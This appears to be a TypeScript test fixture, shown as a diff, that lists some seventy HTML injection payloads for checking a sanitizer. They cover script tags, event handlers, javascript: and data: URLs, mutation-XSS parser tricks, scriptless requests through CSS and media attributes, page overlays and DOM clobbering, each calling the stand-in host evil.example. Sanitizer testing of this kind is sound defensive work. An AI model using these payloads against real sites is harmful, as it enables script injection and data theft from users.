@@ -1,0 +1,86 @@
+/** The host that harmful pages ask something of. */
+export const evil = "evil.example";
+
+const run = `window.harmed=1;top.harmed=1;fetch('https://${evil}/run')`;
+const u = (path: string): string => `https://${evil}/${path}`;
+
+/**
+ * What pages try: scripts by every way there is, requests without script, pages that a browser parses otherwise than a
+ * cleaner does (mXSS), and what reaches for the page around. Each is a message.
+ */
+export const harmful: readonly string[] = [
+  // Scripts.
+  `<script>${run}</script>`,
+  `<script src="${u("script.js")}"></script>`,
+  `<SCRIPT/x>${run}</SCRIPT>`,
+  `<scr<script>ipt>${run}</scr</script>ipt>`,
+  `<img src=x onerror="${run}">`,
+  `<img/src=x/onerror=${run.replaceAll("'", "")}>`,
+  `<img src="x\`\` \`onerror=${run}">`,
+  `<body onload="${run}"><p>b</p>`,
+  `<svg onload="${run}"><circle/></svg>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
+  `<svg><set attributeName=href to="javascript:${run}"/><a><text y=20>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
+  `<math><maction actiontype="statusline#https://${evil}" xlink:href="javascript:${run}">x</maction></math>`,
+  `<iframe src="javascript:${run}"></iframe>`,
+  `<iframe srcdoc="<script>${run.replaceAll('"', "&quot;")}</script>"></iframe>`,
+  `<object data="data:text/html,<script>${run}</script>"></object>`,
+  `<embed src="${u("embed.swf")}">`,
+  `<a href="javascript:${run}">a</a><a href="JaVa&#x0A;ScRiPt:${run}">b</a><a href="&#1;javascript:${run}">c</a>`,
+  `<a href="data:text/html,<script>${run}</script>">d</a><a href="vbscript:x">e</a><a href="blob:https://x/y">f</a>`,
+  `<form action="${u("form")}"><input name=p autofocus onfocus="${run}"><button formaction="javascript:${run}">x</button></form>`,
+  `<details open ontoggle="${run}">x</details>`,
+  `<marquee onstart="${run}">x</marquee>`,
+  `<video autoplay onplay="${run}"><source onerror="${run}"></video><audio src="${u("a.mp3")}" autoplay></audio>`,
+  `<input autofocus onfocus="${run}"><select autofocus onfocus="${run}"></select><textarea autofocus onfocus="${run}"></textarea>`,
+  `<p style="animation-name:x" onanimationstart="${run}">x</p><style>@keyframes x{}</style>`,
+  `<template><script>${run}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
+  // Otherwise parsed.
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
+  `<svg><p><style><g title="</style><img src onerror=${run}>">`,
+  `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${run}"></style></annotation-xml></math>`,
+  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></foreignObject></svg>`,
+  `<title><style></title><img src=x onerror=${run}></style>`,
+  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
+  `<noembed><img title="</noembed><img src onerror=${run}>"></noembed>`,
+  `<noframes><img title="</noframes><img src onerror=${run}>"></noframes>`,
+  `<textarea><img title="</textarea><img src onerror=${run}>"></textarea>`,
+  `<plaintext><img src=x onerror="${run}">`,
+  `<select><option><style></option></select><img src=x onerror=${run}></style>`,
+  `<!--><img src=x onerror=${run}>--><!--!><img src=x onerror=${run}>-->`,
+  `<![CDATA[<img src=x onerror=${run}>]]><svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
+  `<?xml version="1.0"?><?php <img src=x onerror=${run}> ?>`,
+  `<p id="x" title='"><img src=x onerror="${run}">'>t</p><p alt="\u2028<img src=x onerror=${run}>">`,
+  `<a title="&lt;/a&gt;&lt;img src=x onerror=${run}&gt;" href="https://${evil}/?x=&quot;&gt;&lt;img src=x onerror=${run}&gt;">https://bank.example</a>`,
+  `<table><td><img src=x onerror=${run}></table><tr><td><style>*{background:url(${u("t")})}</style>`,
+  `${"<div>".repeat(600)}<img src=x onerror="${run}">`,
+  `<b <img src=x onerror="${run}">>x</b><p/onclick="${run}"/>`,
+  `\u0000<scr\u0000ipt>${run}</scr\u0000ipt><img sr\u0000c=x o\u0000nerror="${run}">`,
+  // Requests without script.
+  `<img src="${u("img")}"><img srcset="${u("set")} 1x"><picture><source srcset="${u("source")}"><img src="//${evil}/rel"></picture>`,
+  `<img src="http:${evil}/a"><img src="https:\\\\${evil}\\b"><img src=" ${u("space")}"><img src="h&#x74;tps://${evil}/c">`,
+  `<link rel=stylesheet href="${u("css")}"><link rel=prefetch href="${u("prefetch")}"><link rel=dns-prefetch href="//${evil}">`,
+  `<style>@import "${u("import")}"; body{background:url(${u("bg")})} @font-face{font-family:x;src:url(${u("font")})} *{font-family:x}</style>`,
+  `<p style="background:url(${u("style")})">x</p><p style="background-image:u\\72l(${u("escaped")})">y</p>`,
+  `<p style="list-style:url('${u("list")}');cursor:url(${u("cursor")}),auto;content:url(${u("content")})">z</p>`,
+  `<p style="background:image-set('${u("set2")}' 1x);mask:url(${u("mask")});filter:url(${u("filter")}#x)">w</p>`,
+  `<p style="color:red;/**/background:/*x*/url(${u("comment")})">v</p><p style="width:expression(${run})">e</p>`,
+  `<body background="${u("bodybg")}"><table background="${u("tablebg")}"><td background="${u("tdbg")}">x</table>`,
+  `<meta http-equiv="refresh" content="0;url=${u("refresh")}"><meta http-equiv="set-cookie" content="a=b">`,
+  `<base href="https://${evil}/"><img src="relative.png"><a href="/act">x</a>`,
+  `<frameset><frame src="${u("frame")}"></frameset>`,
+  `<iframe src="${u("iframe")}"></iframe><object data="${u("object")}"></object><applet code="${u("applet")}"></applet>`,
+  `<video poster="${u("poster")}" src="${u("video")}"><track src="${u("track")}"></video><bgsound src="${u("sound")}">`,
+  `<svg><image href="${u("svgimage")}"/><feImage xlink:href="${u("fe")}"/></svg><input type=image src="${u("input")}">`,
+  `<a href="https://x.example" ping="${u("ping")}">p</a><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${u("datasvg")}'/></svg>">`,
+  `<img src="data:text/html,<script>${run}</script>"><img longdesc="${u("desc")}" lowsrc="${u("low")}" dynsrc="${u("dyn")}">`,
+  // What reaches for the page around, and over it.
+  `<a href="/act" target="_top">x</a><a href="#top" target="_parent">y</a><form target="_top" action="/act" method="post"></form>`,
+  `<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99">over</p>`,
+  `<div id="rows" class="notice" name="harmed"><a id="harmed" name="harmed" href="https://x.example">clobber</a></div>`,
+];
